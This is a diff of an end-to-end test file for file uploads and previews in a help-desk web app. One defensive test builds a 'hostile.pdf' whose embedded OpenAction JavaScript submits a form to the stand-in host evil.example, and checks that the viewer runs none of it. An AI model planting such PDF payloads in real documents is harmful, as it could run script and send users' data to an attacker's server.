@@ -2,9 +2,9 @@ import { createHash, randomBytes } from 'node:crypto';
 import { crc32, deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
 import { Commands, createTicket } from '@meja/plugin-sdk/server';
-import { addressOf, done, password, until } from '@meja/testing';
+import { done, until } from '@meja/testing';
 import type { Page } from 'playwright-core';
-import { accessibilityProblems, openDesk, type Desk, type Visit } from '../testing/desk.js';
+import { accessibilityProblems, openDesk, type Desk, type Visit, type VisitOptions } from '../testing/desk.js';
 
 const subject = 'Files for you';
 
@@ -18,17 +18,21 @@ describe('files at the desk', () => {
   });
   afterAll(() => desk.close());
 
-  async function atTheTicket(options: Parameters<Desk['visit']>[0] = {}): Promise<Visit> {
-    const visit = await desk.visit(options);
+  async function atTheTicket(options: VisitOptions = {}): Promise<Visit> {
+    const visit = await desk.visit({ as: 'agentA', ...options });
     const { page } = visit;
     await page.goto(`${desk.server.address}/`);
-    await page.getByLabel(/e-?mail/i).fill(addressOf('agentA'));
-    await page.keyboard.press('Tab');
-    await page.keyboard.type(password);
-    await page.keyboard.press('Enter');
     await page.getByText(subject).first().click();
-    await page.getByText('What does it look like?').first().waitFor();
+    await page.getByRole('article').getByText('What does it look like?').waitFor();
     return visit;
+  }
+  async function compose(page: Page, key: 'r' | 'n'): Promise<void> {
+    await page.keyboard.press(key);
+    await page.waitForFunction(() => document.activeElement?.matches('#composer textarea'));
+  }
+  async function closePreview(page: Page): Promise<void> {
+    await page.keyboard.press('Escape');
+    await page.locator('[data-preview]').waitFor({ state: 'detached' });
   }
   const choose = (page: Page, files: readonly { name: string; mimeType: string; buffer: Buffer }[]) => page.locator('#composer input[type=file]').setInputFiles([...files]);
   const chip = (page: Page, name: string) => page.locator('[data-upload]').filter({ hasText: name });
@@ -43,13 +47,13 @@ describe('files at the desk', () => {
 
   it('go with a note, and are looked at without leaving the ticket and without asking anybody else', async () => {
     const { page, context, outside, broken } = await atTheTicket();
-    await page.keyboard.press('n');
+    await compose(page, 'n');
     await choose(page, [{ name: 'photo.png', mimeType: 'image/png', buffer: aPicture() }, { name: 'terms.pdf', mimeType: 'application/pdf', buffer: aPdf(['Terms of service', 'The second page']) }]);
     await chip(page, 'terms.pdf').and(page.locator('[data-upload=done]')).waitFor();
     await shoot(page, 'tray-light');
     expect(await accessibilityProblems(page)).toEqual([]);
     await send(page, 'Both files are here.');
-    expect(await page.locator('[data-upload]').count()).toBe(0);
+    await until(async () => (await page.locator('[data-upload]').count()) === 0, 'an empty tray');
     await page.reload();
     await page.getByRole('button', { name: /^photo.png/ }).click();
     await page.locator('[data-preview] img').waitFor();
@@ -59,7 +63,7 @@ describe('files at the desk', () => {
     const before = await width();
     await page.keyboard.press('+');
     await until(async () => (await width()) > before, 'the larger picture');
-    await page.keyboard.press('Escape');
+    await closePreview(page);
     await page.getByRole('button', { name: /^terms.pdf/ }).press('Enter');
     await page.locator('[data-pdf-text]').getByText('Terms of service').waitFor();
     expect(await accessibilityProblems(page)).toEqual([]);
@@ -75,10 +79,10 @@ describe('files at the desk', () => {
 
   it('go on after the network was gone and after a reload, and hold the message back until they are whole', async () => {
     const { page, context } = await atTheTicket();
-    await page.keyboard.press('n');
-    let cut = 0;
-    // Slow enough to be looked at on its way; the second part never comes through until the network is back.
-    await page.route('**/uploads/*', async (route) => (route.request().method() === 'PATCH' && (cut += 1) >= 2 && cut <= 3 ? route.abort('connectionreset') : route.continue()));
+    await compose(page, 'n');
+    let parts = 0;
+    // The first part arrives; no other comes through until the network is back.
+    await page.route('**/uploads/*', async (route) => (route.request().method() === 'PATCH' && (parts += 1) >= 2 ? route.abort('connectionreset') : route.continue()));
     const bytes = randomBytes(3_000_000);
     await choose(page, [{ name: 'large.bin', mimeType: 'application/octet-stream', buffer: bytes }]);
     await page.locator('[data-upload=stuck]').waitFor();
@@ -88,11 +92,11 @@ describe('files at the desk', () => {
     expect(await page.getByRole('button', { name: 'Add note' }).isDisabled()).toBe(true);
     await chip(page, 'large.bin').getByRole('button', { name: 'Pause large.bin' }).click();
     await page.locator('[data-upload=paused]').waitFor();
-    await page.waitForTimeout(600);
+    await until(() => page.evaluate(keptPaths).then((paths) => paths.length === 1 && paths[0] !== null), 'the file that is kept, with where it goes on');
     await page.unroute('**/uploads/*');
     await page.reload();
     await page.getByText('What does it look like?').first().waitFor();
-    await page.keyboard.press('n');
+    await compose(page, 'n');
     await chip(page, 'large.bin').and(page.locator('[data-upload=done]')).waitFor();
     const begun = await desk.server.rows(`select count(*)::int as n from upload where name = 'large.bin'`);
     expect(begun).toEqual([{ n: 1 }]);
@@ -104,7 +108,7 @@ describe('files at the desk', () => {
 
   it('are dropped and pasted, and taken out again by the keyboard', async () => {
     const { page, context } = await atTheTicket();
-    await page.keyboard.press('r');
+    await compose(page, 'r');
     const give = (type: 'drop' | 'paste') => page.locator('#composer textarea').evaluate((area, type) => {
       const transfer = new DataTransfer();
       transfer.items.add(new File(['x'.repeat(100)], type === 'drop' ? 'dropped.txt' : 'image.png', { type: 'text/plain' }));
@@ -117,13 +121,13 @@ describe('files at the desk', () => {
     await until(async () => page.evaluate(() => document.activeElement?.hasAttribute('data-remove') === true), 'focus on the neighbour');
     await page.keyboard.press('Enter');
     await until(async () => page.evaluate(() => document.activeElement?.tagName === 'TEXTAREA'), 'focus in the text');
-    expect(await desk.server.rows(`select count(*)::int as n from upload where state <> 'removed' and name like '%dropped%'`)).toEqual([{ n: 0 }]);
+    await until(async () => (await desk.server.rows(`select from upload where state <> 'removed' and name like '%dropped%'`)).length === 0, 'the files taken back');
     await context.close();
   });
 
   it('are refused with the reason when there is nothing in them or too much', async () => {
-    const { page, context } = await atTheTicket({ theme: 'dark' });
-    await page.keyboard.press('n');
+    const { page, context } = await atTheTicket();
+    await compose(page, 'n');
     await page.locator('#composer textarea').evaluate((area) => {
       const dataTransfer = new DataTransfer();
       for (const [name, size] of [['empty.txt', 0], ['huge.bin', 25_000_001]] as const) dataTransfer.items.add(new File([new Uint8Array(size)], name));
@@ -131,13 +135,13 @@ describe('files at the desk', () => {
     });
     await chip(page, 'empty.txt').getByText('The file is empty.').waitFor();
     await chip(page, 'huge.bin').getByText('Too large: at most 25 MB.').waitFor();
-    await shoot(page, 'tray-refused-dark');
     expect(await accessibilityProblems(page)).toEqual([]);
+    await shoot(page, 'tray-refused-dark');
     await page.getByRole('button', { name: /^photo.png/ }).click();
     await page.locator('[data-preview] img').waitFor();
-    await shoot(page, 'image-dark');
     expect(await accessibilityProblems(page)).toEqual([]);
-    await page.keyboard.press('Escape');
+    await shoot(page, 'image-dark');
+    await closePreview(page);
     await page.getByRole('button', { name: /^terms.pdf/ }).click();
     await page.locator('[data-pdf-text]').getByText('Terms of service').waitFor();
     await shoot(page, 'pdf-dark');
@@ -148,21 +152,36 @@ describe('files at the desk', () => {
     const { page, context, outside, broken } = await atTheTicket();
     let dialogs = 0;
     page.on('dialog', (dialog) => void ((dialogs += 1), dialog.dismiss()));
-    await page.keyboard.press('n');
+    await compose(page, 'n');
     await choose(page, [{ name: 'hostile.pdf', mimeType: 'application/pdf', buffer: aPdf(['Harmless to look at'], '/OpenAction << /S /JavaScript /JS (app.alert("run"); this.submitForm("https://evil.example")) >>') }, { name: 'broken.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.7 and nothing that follows') }]);
     await until(async () => (await page.locator('[data-upload=done]').count()) === 2, 'both files');
     await send(page, 'A hostile one.');
     await page.reload();
     await page.getByRole('button', { name: /^hostile.pdf/ }).click();
     await page.locator('[data-pdf-text]').getByText('Harmless to look at').waitFor();
-    await page.waitForTimeout(500);
-    expect([dialogs, outside, broken]).toEqual([0, [], []]);
-    await page.keyboard.press('Escape');
+    await closePreview(page);
     await page.getByRole('button', { name: /^broken.pdf/ }).click();
     await page.getByText('This file cannot be shown.').waitFor();
+    // Another document was opened since: what a program does when it is opened, it would have done.
+    expect([dialogs, outside, broken]).toEqual([0, [], []]);
     await context.close();
   });
 });
+
+/** Where the files that the browser keeps go on. */
+function keptPaths(): Promise<readonly (string | null)[]> {
+  return new Promise((resolve, reject) => {
+    const opening = indexedDB.open('meja-uploads');
+    opening.onerror = () => reject(opening.error);
+    opening.onsuccess = () => {
+      const reading = opening.result.transaction('files').objectStore('files').getAll();
+      reading.onsuccess = () => {
+        opening.result.close();
+        resolve(reading.result.map(({ path }: { path: string | null }) => path));
+      };
+    };
+  });
+}
 
 /** A PNG of a colour gradient, 320 × 200. */
 function aPicture(): Buffer {
